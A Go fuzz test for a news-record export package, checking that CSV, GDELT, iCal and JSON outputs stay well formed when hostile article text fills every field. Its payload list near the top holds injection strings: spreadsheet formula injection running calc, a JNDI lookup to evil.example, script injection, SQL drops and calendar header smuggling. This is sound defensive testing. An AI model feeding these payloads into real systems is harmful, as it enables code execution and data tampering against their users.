package export

import (
	"encoding/json"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"github.com/attache-project/attache/reading"
	"github.com/attache-project/attache/record"
	"github.com/attache-project/attache/text"
)

// payloads are what hostile articles try.
var payloads = []string{
	"=HYPERLINK(\"https://evil.example\",\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1",
	"x\r\nATTENDEE:mailto:evil@evil.example\r\nEND:VEVENT\r\nBEGIN:VALARM", "x\nX-EVIL:1", "a;b,c\\d:e\"f", "x\\nBEGIN:VEVENT",
	"a\tb\tc\nd", "<script>alert(1)</script>", "</script><img src=x onerror=alert(1)>", "]]>", "<!--", "\x00\x01\x1b[31m\x7f", "\u2028\u2029\u202egpj.exe",
	"'; DROP TABLE fact; --", "{{7*7}}", "${jndi:ldap://evil.example}", "\xff\xfe\xed\xa0\x80", "\ufeffx", "%0d%0aX-EVIL:1", "\"},{\"id\":\"evil\"",
	"javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "https://evil.example/\r\nX-EVIL:1", "https://evil.example/\"><script>", "🇰🇿👩🏽‍🚀 ñ й «»",
}

// poisoned returns the story with a payload in every place that an article, or who
// corrects it, can fill.
func poisoned(t testing.TB, p string) *Record {
	r := story(t)
	source := func(s *record.Source) {
		s.URL, s.Outlet, s.Agency, s.Title, s.Lang, s.Published, s.Retrieved = p, p, p, p, p, p, p
	}
	words := func(s reading.Span) reading.Span {
		s.Start, s.End, s.Text = 2, 2+points(p), p
		return s
	}
	party := func(ps []record.Party) {
		for i := range ps {
			ps[i].Name = p
		}
	}
	report := func(rep *record.Report) {
		source(&rep.Source)
		f := &rep.Fact
		f.Words, f.Rule, f.VisitKind, f.Was, f.Time = words(f.Words), p, p, p, p
		for i := range f.Spans {
			f.Spans[i] = words(f.Spans[i])
		}
		party(f.Actors)
		party(f.Recipients)
		f.Place, f.Speaker, f.Channel = &record.Place{Entity: p, Name: p, Country: p}, &record.Party{Entity: p, Name: p, Code: p}, p
		f.Quantities = []record.Quantity{{Kind: "amount", Value: p}}
		rep.Why = []record.Reason{{Rule: p, Detail: p}}
	}
	for i := range r.Events {
		e := &r.Events[i]
		for j := range e.Reports {
			report(&e.Reports[j])
		}
		party(e.Actors)
		party(e.Recipients)
		e.Act, e.Place, e.VisitKind = p, &record.Place{Entity: p, Name: p, Country: p}, p
		e.Parties = append(e.Parties, p)
		e.Variations = append(e.Variations, record.Variation{Attribute: p, Phase: p, Values: []record.Value{{Value: p}, {Value: p + p}}})
	}
	for i := range r.Levels {
		l := &r.Levels[i]
		for j := range l.Reports {
			report(&l.Reports[j])
		}
		l.Names[0].Words, l.Level = p, p
	}
	for i := range r.Statements {
		report(&r.Statements[i])
	}
	for key, a := range r.Articles {
		b := *a
		b.Text, b.Byline = "a\n"+p+"\nz", p
		b.SHA256 = text.Digest(b.Text)
		source(&b.Source)
		r.Articles[key] = &b
	}
	return r
}

// wellFormed fails where what was written in a form can hurt who opens it. events
// is how many calendar entries there are to be.
func wellFormed(t *testing.T, form string, b []byte, columns, events int) {
	t.Helper()
	name, table, _ := strings.Cut(form, " ")
	switch name {
	case "csv":
		numbers := map[string]bool{}
		cs, err := Columns(table)
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range flat(cs) {
			numbers[c.Name] = c.kind == numberCell || c.kind == decimalCell
		}
		fields(t, form, b, func(key, s string) {
			if s != "" && !numbers[key] && strings.ContainsAny(s[:1], "=+-@\t\r\n") {
				t.Errorf("%s: cell %s begins like a formula: %q", form, key, s)
			}
			if strings.ContainsFunc(s, unicode.IsControl) {
				t.Errorf("%s: cell %s has control characters: %q", form, key, s)
			}
		})
		if strings.Count(string(b), "\n") != strings.Count(string(b), "\r\n") {
			t.Errorf("%s: a line ends without CR LF", form)
		}
	case "gdelt", "gdelt-planned", "gdelt-mentions":
		for line := range strings.Lines(string(b)) {
			if n := strings.Count(line, "\t") + 1; n != columns {
				t.Errorf("%s: a row of %d columns, want %d: %q", form, n, columns, line)
			}
			if strings.ContainsFunc(strings.NewReplacer("\t", "", "\n", "").Replace(line), unicode.IsControl) {
				t.Errorf("%s: control characters in %q", form, line)
			}
		}
	case "ical":
		known := regexp.MustCompile(`^(BEGIN|END|VERSION|PRODID|CALSCALE|METHOD|NAME|X-WR-CALNAME|UID|DTSTAMP|SEQUENCE|DTSTART;VALUE=DATE|DTEND;VALUE=DATE|STATUS|SUMMARY|DESCRIPTION|LOCATION|CATEGORIES|URL|TRANSP):`)
		for line := range strings.SplitSeq(strings.TrimSuffix(string(b), "\r\n"), "\r\n") {
			if !known.MatchString(line) && !strings.HasPrefix(line, " ") || len(line) > 75 || strings.ContainsFunc(line, unicode.IsControl) {
				t.Errorf("%s: line %q", form, line)
			}
		}
		if n := strings.Count("\r\n"+string(b), "\r\nBEGIN:VEVENT\r\n"); n != events {
			t.Errorf("%s: %d entries, want %d", form, n, events)
		}
	case "parquet":
		fields(t, form, b, func(string, string) {})
		return
	default:
		if strings.ContainsAny(string(b), "<>&") || strings.Contains(string(b), "\u2028") {
			t.Errorf("%s: a sign that ends a script: %s", form, b)
		}
		for line := range strings.Lines(string(b)) {
			if (name == "jsonl" || name == "plover") && !json.Valid([]byte(line)) {
				t.Errorf("%s: line %q", form, line)
			}
		}
	}
	link := regexp.MustCompile(`^(url|URL|id|@id|source|isPartOf|appearance|subjectOf|SOURCEURL)$`)
	fields(t, form, b, func(key, s string) {
		if !link.MatchString(key) || s == "" {
			return
		}
		if !strings.HasPrefix(s, "https://") && !strings.HasPrefix(s, "http://") && !strings.HasPrefix(s, "urn:") && !regexp.MustCompile(`^[0-9a-f]{16}$`).MatchString(s) ||
			strings.ContainsAny(s, " \t\r\n\"<>") {
			t.Errorf("%s: %s is %q", form, key, s)
		}
	})
}

var widths = map[string]int{"gdelt": 61, "gdelt-planned": 65, "gdelt-mentions": 16}

// FuzzHostileArticlesCannotLeaveTheirField runs over all payloads in every test.
func FuzzHostileArticlesCannotLeaveTheirField(f *testing.F) {
	for _, p := range payloads {
		f.Add(p)
	}
	entries := strings.Count(string(export(f, story(f), "ical", Options{})), "BEGIN:VEVENT")
	f.Fuzz(func(t *testing.T, p string) {
		if len(p) > 400 {
			return // longer words are cut: TestNoFieldHoldsMoreThanAShortQuotation
		}
		r := poisoned(t, p)
		for form, o := range forms() {
			name, _, _ := strings.Cut(form, " ")
			wellFormed(t, form, export(t, r, form, o), widths[name], entries)
		}
	})
}
